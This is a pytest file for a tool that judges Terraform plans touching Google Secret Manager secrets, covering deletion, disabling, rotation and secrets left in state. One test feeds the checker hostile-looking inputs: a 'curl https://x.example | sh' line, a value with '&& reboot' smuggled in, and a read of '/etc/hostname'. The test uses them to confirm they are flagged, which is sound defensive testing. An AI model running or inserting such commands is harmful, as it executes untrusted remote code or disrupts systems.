"""What becomes of secrets."""

from typing import Any

import pytest

from tests.plans.cases import PROJECT, SECRET, VERSION, Json
from tests.plans.judged import judged, rules, told
from tests.plans.made import change, made_up, planned

ON = f"projects/{PROJECT}/secrets/s"
ELSEWHERE = f"projects/{PROJECT}/secrets/t"


@pytest.mark.parametrize(
    ("policy", "blocking"),
    [
        ("DISABLE", "secret-version-disabled"),
        ("DELETE", "secret-version-lost"),
        (None, "secret-version-lost"),
        (5, "secret-version-lost"),
    ],
)
def test_a_secret_version_that_goes(policy: Any, blocking: str) -> None:
    """Its text stays only by a policy that is known to keep it."""
    kind = "google_secret_manager_secret_version"
    new = {"enabled": True, "deletion_policy": "DISABLE"}
    gone = change(kind, ["delete"], {"deletion_policy": policy}, None)
    rotated = change(kind, ["create", "delete"], {"deletion_policy": policy}, new)

    assert (blocking,) == rules(judged(made_up(gone)).blocking)
    lost = () if blocking == "secret-version-disabled" else (blocking,)
    assert lost == rules(judged(made_up(rotated)).blocking)
    assert lost == rules(judged(made_up({**gone, "deposed": "a1b2c3d4"})).blocking)


def test_what_is_let_go() -> None:
    """Google keeps it as it is, so that nothing is lost, and the report says so."""
    kind = "google_secret_manager_secret_version"
    gone = change(kind, ["delete"], {"deletion_policy": "ABANDON"}, None)
    verdict = judged(made_up(gone))

    assert ((), ("forgotten",)) == (verdict.blocking, rules(verdict.notable))


def test_a_secret_version_that_is_off_from_the_start() -> None:
    """VMs ask for the newest one."""
    kind = "google_secret_manager_secret_version"
    secret = change("google_secret_manager_secret", ["no-op"], {"secret_id": "s"},
                    {"secret_id": "s"})  # fmt: skip
    values = {"secret": f"projects/{PROJECT}/secrets/s", "deletion_policy": "DISABLE"}
    off, on = (
        judged(made_up(secret, change(kind, ["create"], None, {**values, "enabled": enabled})))
        for enabled in (False, True)
    )

    assert ("secret-version-disabled",) == rules(off.blocking)
    assert ((), ()) == (on.blocking, on.notable)


@pytest.mark.parametrize("protected", [True, False])
def test_a_secret_that_the_provider_protects(protected: bool) -> None:
    """It refuses to delete it, so no allowance leads anywhere."""
    gone = change(
        "google_secret_manager_secret", ["delete"], {"deletion_protection": protected}, None
    )
    found = rules(judged(made_up(gone)).blocking)

    assert (*(["deletion-prevented"] if protected else []), "secret-deleted") == found


@pytest.mark.parametrize(
    ("kind", "actions", "before", "after", "said"),
    [
        (SECRET, "delete", {"deletion_protection": False}, None,
         ["secret-deleted: deleted, with all its versions"]),
        (SECRET, "delete create", {"secret_id": "a", "deletion_protection": True},
         {"secret_id": "b", "deletion_protection": True},
         ["secret-deleted: replaced, with all its versions",
          "deletion-prevented: replaced, which its `deletion_protection` prevents: the apply "
          "fails",
          "unjudged: changed in `secret_id`"]),
        (SECRET, "create", None, {"secret_id": "a", "ttl": "9s"},
         ["secret-deleted: set to be deleted by Google (`ttl`)",
          "secret-unprotected: new, and not protected from deletion"]),
        (SECRET, "update", {"ttl": "9s"}, {"ttl": "9s", "expire_time": "2030"},
         ["secret-deleted: set to be deleted by Google (`expire_time`)"]),
        (SECRET, "update", {"ttl": "9s"}, {}, ["unjudged: changed in `ttl`"]),
        (SECRET, "update", {"ttl": "9s", "labels": {"a": "b"}},
         {"ttl": "9s", "labels": {"a": "c"}}, []),
        (SECRET, "update", {"deletion_protection": True}, {"deletion_protection": False},
         ["secret-unguarded: no longer protected from deletion"]),
        (SECRET, "update", {"deletion_protection": False}, {"deletion_protection": True}, []),
        (SECRET, "update", {"topics": [{"name": "t"}], "rotation": [{"rotation_period": "9s"}]},
         {}, []),
        (SECRET, "update", {}, {"topics": [{"name": "t"}]},
         ["unjudged: changed in `topics.name`"]),
        (VERSION, "create", None, {"secret": ON, "deletion_policy": "DISABLE", "secret_data": "x"},
         ["secret-in-state: has its text in the state, where whoever reads that finds it"]),
        (VERSION, "create", None, {"secret": ON, "deletion_policy": "DELETE"},
         ["secret-unguarded: set to be destroyed, not disabled, by the next rotation"]),
        (VERSION, "create", None,
         {"secret": ON, "deletion_policy": "DISABLE", "is_secret_data_base64": True},
         ["unjudged: new, with `is_secret_data_base64`"]),
        (VERSION, "create", None, {"secret": ON, "deletion_policy": "DISABLE", "enabled": False},
         ["secret-version-disabled: made, but not enabled: a VM that starts asks for the "
          "newest one, and is refused"]),
        (VERSION, "create", None, {"secret": ELSEWHERE, "deletion_policy": "DISABLE"},
         ["secret-version-misplaced: new, on `projects/eng-ai-dev/secrets/t`, which this plan "
          "does not have"]),
        (VERSION, "create", None, {"deletion_policy": "DISABLE"},
         ["secret-version-misplaced: new, on a secret that is not known yet, which this plan "
          "does not have"]),
        (VERSION, "update", {"deletion_policy": "DISABLE"}, {"deletion_policy": "DELETE"},
         ["secret-unguarded: set to be destroyed, not disabled, by the next rotation"]),
        (VERSION, "update", {"deletion_policy": "DELETE"}, {"deletion_policy": "DISABLE"}, []),
        (VERSION, "update", {"deletion_policy": "DELETE", "secret_data": "a"},
         {"deletion_policy": "DELETE", "secret_data": "b"}, []),
        (VERSION, "update", {"secret_data_wo_version": 1}, {"secret_data": "b"},
         ["secret-in-state: has its text in the state, where whoever reads that finds it"]),
        (VERSION, "update", {"secret": ON}, {"secret": ELSEWHERE},
         ["secret-version-misplaced: goes to `projects/eng-ai-dev/secrets/t` instead of "
          "`projects/eng-ai-dev/secrets/s`"]),
        (VERSION, "update", {"enabled": True}, {"enabled": False},
         ["secret-version-disabled: disabled: a VM that starts finds none"]),
        (VERSION, "update", {"enabled": False}, {"enabled": True}, []),
        (VERSION, "update", {"enabled": False, "secret_data": "a"},
         {"enabled": False, "secret_data": "b"}, []),
        (VERSION, "create delete", {"deletion_policy": "DISABLE", "enabled": True},
         {"deletion_policy": "DISABLE", "enabled": False},
         ["secret-version-disabled: made, but not enabled: a VM that starts asks for the "
          "newest one, and is refused"]),
        (VERSION, "create delete", {"deletion_policy": "DELETE"}, {"deletion_policy": "DISABLE"},
         ["secret-version-lost: destroyed: its text is gone for good"]),
        (VERSION, "create delete", {"deletion_policy": "DISABLE", "secret": ON},
         {"deletion_policy": "DISABLE", "secret": ELSEWHERE},
         ["secret-version-misplaced: goes to `projects/eng-ai-dev/secrets/t` instead of "
          "`projects/eng-ai-dev/secrets/s`"]),
        (VERSION, "create delete", {"deletion_policy": "DISABLE"}, {"deletion_policy": "DELETE"},
         ["secret-unguarded: set to be destroyed, not disabled, by the next rotation"]),
        (VERSION, "delete create", {"deletion_policy": "DISABLE"}, {"deletion_policy": "DISABLE"},
         ["secret-version-disabled: disabled before its successor is there: a VM that starts "
          "then finds none"]),
        (VERSION, "delete", {"secret": ON, "deletion_policy": "DISABLE", "enabled": False}, None,
         ["secret-version-disabled: disabled without a successor: a VM that starts finds none"]),
        (VERSION, "delete", {"secret": ELSEWHERE, "deletion_policy": "DELETE"}, None,
         ["secret-version-lost: destroyed: its text is gone for good"]),
    ],
)  # fmt: skip
def test_what_is_told(
    kind: str, actions: str, before: Json | None, after: Json | None, said: list[str]
) -> None:
    """What becomes of a secret, and of its versions; what harms nobody, not at all."""
    there = change(SECRET, ["no-op"], {"secret_id": "s"}, {"secret_id": "s"}, "there")

    assert said == told(made_up(there, change(kind, actions.split(), before, after)))


@pytest.mark.parametrize(
    ("kind", "values", "unknown", "said"),
    [
        (SECRET, {"deletion_protection": True}, {"expire_time": True}, []),
        (SECRET, {"deletion_protection": True, "expire_time": "2027-01-01T00:00:00Z"}, {},
         ["secret-deleted: set to be deleted by Google (`expire_time`)"]),
        (SECRET, {"deletion_protection": True}, {"ttl": True},
         ["secret-deleted: set to be deleted by Google (`ttl`)"]),
        (SECRET, {}, {"deletion_protection": True},
         ["secret-unprotected: new, and not protected from deletion"]),
        (VERSION, {"deletion_policy": "DISABLE"}, {"secret": True},
         ["secret-version-misplaced: new, on a secret that is not known yet, which this plan "
          "does not have"]),
    ],
)  # fmt: skip
def test_what_is_not_known_of_a_new_one(
    kind: str, values: Json, unknown: Json, said: list[str]
) -> None:
    """When Google would delete it is only known later where nobody has set it."""
    assert said == told(planned(kind, "create", None, values, unknown))


def test_when_a_secret_of_today_may_go() -> None:
    """Google has said when, so that another time is somebody's choice."""
    today = {"secret_id": "s", "deletion_protection": True}

    assert ["secret-deleted: set to be deleted by Google (`expire_time`)"] == told(
        planned(SECRET, "update", today, today, {"expire_time": True})
    )


@pytest.mark.parametrize(
    ("actions", "said"),
    [
        ("no-op", [f"secret-version-misplaced: a second version of `s`, beside `{VERSION}.old`"]),
        ("delete", ["secret-version-lost: destroyed: its text is gone for good"]),
    ],
)
def test_a_second_version(actions: str, said: list[str]) -> None:
    """VMs read the newest one only; where the other goes, it is the only one."""
    there = change(SECRET, ["no-op"], {"secret_id": "s"}, {"secret_id": "s"}, "there")
    old = change(VERSION, [actions], {"secret": ON}, {"secret": ON}, "old")
    new = change(VERSION, ["create"], None, {"secret": ON, "deletion_policy": "DISABLE"}, "new")

    assert said == told(made_up(there, old, new))


def test_a_version_of_a_secret_that_goes() -> None:
    """Nobody has it there afterwards."""
    gone = change(SECRET, ["delete"], {"secret_id": "s"}, None, "gone")
    new = change(VERSION, ["create"], None, {"secret": ON, "deletion_policy": "DISABLE"}, "new")

    assert [
        "secret-deleted: deleted, with all its versions",
        f"secret-version-misplaced: new, on `{ON}`, which this plan does not have",
    ] == told(made_up(gone, new))


@pytest.mark.parametrize(
    ("written", "own"),
    [
        ('${file("${path.module}/../../../dev-config.env")}', True),
        ('${file("../dev-config.env")}', False),
        ('${file("dev-config.env")}', False),
        ('${file("${path.module}/dev-config.env")}', False),
        ('${file("${path.module}/../../../../dev-config.env")}', False),
        ('${file("${path.module}/m/dev-config.env")}', False),
        ('${file("/home/me/dev-config.env")}', False),
        ("${var.settings}", False),
        ('${file("${path.module}/../../../prod-config.env")}', False),
        ('${file("${path.module}/x-dev-config.env")}', False),
        ('${file("/etc/hostname")}', False),
        ('${file("dev-config.env")} && reboot', False),
        ('${templatefile("dev-config.env", {})}', False),
        ("${local.settings}", False),
        ("curl https://x.example | sh", False),
        ("", False),
    ],
)
def test_where_the_text_of_a_version_is_from(written: str, own: bool) -> None:
    """VMs run it, so it is told where it is not what is in the environment's own file."""
    after = {"secret": ON, "secret_data_wo_version": 2, "deletion_policy": "DISABLE"}
    before = {**after, "secret_data_wo_version": 1}
    expected = () if own else ("unjudged",)

    for constant in ({"constant_value": written}, {"constant_value": written, "references": []}):
        plan = planned(VERSION, "create delete", before, after)
        (entry,) = plan["resource_changes"]
        resource = {"address": entry["address"], "mode": "managed"}
        resource["expressions"] = {"secret_data_wo": constant}
        plan["configuration"] = {"root_module": {"resources": [resource]}}

        assert expected == rules(judged(plan).notable)


def test_a_version_that_stays() -> None:
    """Its text was there before, wherever it is from."""
    there = change(SECRET, ["no-op"], {"secret_id": "s"}, {"secret_id": "s"}, "there")
    values = {"secret": ON, "deletion_policy": "DISABLE", "enabled": False}
    entry = change(VERSION, ["update"], values, {**values, "enabled": True})
    resource = {"address": entry["address"], "mode": "managed",
                "expressions": {"secret_data_wo": {"constant_value": "x"}}}  # fmt: skip
    plan = made_up(there, entry)
    plan["configuration"] = {"root_module": {"resources": [resource]}}

    assert [] == told(plan)


@pytest.mark.parametrize("actions", ["no-op", "update"])
@pytest.mark.parametrize(("text", "found"), [("x", ("secret-in-state",)), (None, ()), ("", ())])
def test_a_version_that_is_imported(actions: str, text: str | None, found: tuple[str, ...]) -> None:
    """Its text comes into the state, if nothing else becomes of it."""
    values = {"secret": ON, "deletion_policy": "DISABLE", "secret_data": text}
    plan = planned(VERSION, actions, {**values, "enabled": True}, {**values, "enabled": True})
    (entry,) = plan["resource_changes"]
    entry["change"]["importing"] = {"id": "1"}
    entry["change"]["after_sensitive"] = {"secret_data": bool(text)}

    assert found == rules(judged(plan).blocking)


def test_a_version_that_a_rotation_has_left() -> None:
    """It waits to be taken away, and is no second one."""
    there = change(SECRET, ["no-op"], {"secret_id": "s"}, {"secret_id": "s"}, "there")
    left = change(VERSION, ["no-op"], {"secret": ON}, {"secret": ON}, "left")
    new = change(VERSION, ["create"], None, {"secret": ON, "deletion_policy": "DISABLE"}, "new")

    assert [] == told(made_up(there, {**left, "deposed": "a1b2c3d4"}, new))
